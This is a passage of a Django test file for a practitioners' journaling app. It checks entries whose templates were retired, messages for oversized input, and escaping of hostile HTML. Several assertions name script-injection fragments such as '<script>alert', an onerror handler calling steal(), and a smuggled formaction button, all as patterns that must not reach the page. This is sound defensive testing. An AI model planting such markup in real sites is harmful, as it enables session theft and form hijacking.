    ReflectiveTemplate.objects.filter(pk=template.pk).update(is_active=False)
    response = client.post(
        reverse("journals:autosave"),
        {"entry_id": entry.pk, "version": 1, "title": "", "tags": "",
         "section_0": "Case words, more", "section_1": "Worry words"},
    )  # fmt: skip
    assert response.status_code == 200
    entry.refresh_from_db()
    assert read_entry(entry).sections[0]["text"] == "Case words, more"


def test_a_new_entry_submitted_after_its_template_was_retired_is_not_lost(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Prep", sections=[{"title": "The case"}, {"title": "My worry"}]
    )
    client.force_login(world.practitioner)
    form = client.get(reverse("journals:new"), {"template": f"org:{template.pk}"})
    assert form.status_code == 200
    ReflectiveTemplate.objects.filter(pk=template.pk).update(is_active=False)  # meanwhile
    typed = "Twenty minutes of careful writing"
    response = client.post(
        reverse("journals:new"),
        _form(f"org:{template.pk}", section_0=typed, section_1="", action="finish"),
    )
    saved = [read_entry(e).sections[0]["text"] for e in JournalEntry.objects.all()]
    assert saved == [typed] or typed in body(response)


def test_entries_written_with_a_retired_template_keep_their_sections(client, world):
    template = ReflectiveTemplate.objects.create(
        organisation=world.org, name="Prep", sections=[{"title": "The case"}, {"title": "My worry"}]
    )
    client.force_login(world.practitioner)
    client.post(
        reverse("journals:new"),
        _form(
            f"org:{template.pk}", section_0="Case words", section_1="Worry words", action="finish"
        ),
    )
    entry = JournalEntry.objects.get()
    ReflectiveTemplate.objects.filter(pk=template.pk).update(is_active=False)
    edit = body(client.get(reverse("journals:edit", args=[entry.pk])))
    assert edit.count("<textarea") == 2
    assert "Worry words" in edit


# --- Hostile input -------------------------------------------------------------------------


def test_a_hundred_thousand_character_section_gets_a_message_and_is_kept_in_the_form(
    client, author
):
    huge = "word " * 19_999 + "last."  # 100,000 characters
    response = client.post(
        reverse("journals:new"),
        _form("builtin:free", title="Long", section_0=huge, action="finish"),
    )
    assert response.status_code == 200
    assert "Ensure this value has at most 20000 characters (it has 100000)." in body(response)
    assert huge in body(response)  # nothing typed is lost
    assert not JournalEntry.objects.exists()


def test_a_hundred_thousand_character_autosave_gets_a_message(client, author):
    response = client.post(
        reverse("journals:autosave"), _form("builtin:free", section_0="x" * 100_000)
    )
    assert response.status_code in {200, 422}
    assert htmx_swaps(client, response)
    assert "at most 20000 characters" in body(response)
    assert not JournalEntry.objects.exists()


def test_a_hundred_thousand_character_edit_gets_a_message_and_keeps_the_stored_text(client, author):
    entry = write(author, title="Kept")
    response = client.post(
        reverse("journals:edit", args=[entry.pk]),
        {"title": "Replaced", "section_0": "x" * 100_000, "version": 1},
    )
    assert response.status_code == 200
    assert "at most 20000 characters" in body(response)
    assert read_entry(JournalEntry.objects.get(pk=entry.pk)).title == "Kept"


def test_five_hundred_tags_get_a_message(client, author):
    tags = ", ".join(f"t{n}" for n in range(500))
    response = client.post(
        reverse("journals:new"),
        _form("builtin:free", section_0="Words", tags=tags, action="finish"),
    )
    assert response.status_code == 200
    page = body(response)
    assert "Use at most 30 tags." in page or "at most 2000 characters" in page
    assert not JournalEntry.objects.exists()


def test_thirty_one_tags_get_the_tag_message(client, author):
    tags = ", ".join(f"t{n}" for n in range(31))
    response = client.post(
        reverse("journals:new"),
        _form("builtin:free", section_0="Words", tags=tags, action="finish"),
    )
    assert "Use at most 30 tags." in body(response)
    assert not JournalEntry.objects.exists()


def test_html_in_every_field_is_stored_as_text_and_shown_escaped(client, author, world):
    response = client.post(
        reverse("journals:new"),
        _form(title=HOSTILE, tags=f"{HOSTILE_TAG}, plain", section_0=HOSTILE, section_1=HOSTILE,
              section_2=HOSTILE, action="finish"),
    )  # fmt: skip
    assert response.status_code == 302
    entry = JournalEntry.objects.get()
    text = read_entry(entry)
    assert (text.title, text.tags) == (HOSTILE, [HOSTILE_TAG, "plain"])
    assert [s["text"] for s in text.sections] == [HOSTILE] * 3
    client.post(
        reverse("journals:share", args=[entry.pk]), {"group": world.group.pk, "text": HOSTILE}
    )
    assert SharedLearning.objects.get().text == HOSTILE
    for url, tag_shown in (
        (reverse("journals:list"), True),
        (reverse("journals:entry", args=[entry.pk]), True),
        (reverse("journals:edit", args=[entry.pk]), True),
        (reverse("journals:export"), False),
        (reverse("journals:group_learning", args=[world.group.pk]), False),
    ):
        page = body(client.get(url))
        assert "<script>alert" not in page, url
        assert 'onerror="steal()"' not in page, url
        assert ESCAPED in page, url
        if tag_shown:
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, url


def test_an_organisations_template_cannot_put_html_into_the_writing_page(client, world):
    """Section titles and prompts come from an org admin, who must never read journal text:
    markup in them must not reach the page where members write (a button with a formaction,
    or a form, would post the entry elsewhere)."""
    template = ReflectiveTemplate.objects.create(
        organisation=world.org,
        name=HOSTILE,
        sections=[{"title": HOSTILE, "prompts": [HOSTILE, SMUGGLED_BUTTON]}],
    )
    client.force_login(world.practitioner)
    chooser = body(client.get(reverse("journals:new")))
    assert "<script>alert" not in chooser
    assert ESCAPED in chooser
    page = body(client.get(reverse("journals:new"), {"template": f"org:{template.pk}"}))
    assert "<script>alert" not in page
    assert "<button formaction=" not in page  # only ever shown escaped
    assert ESCAPED in page
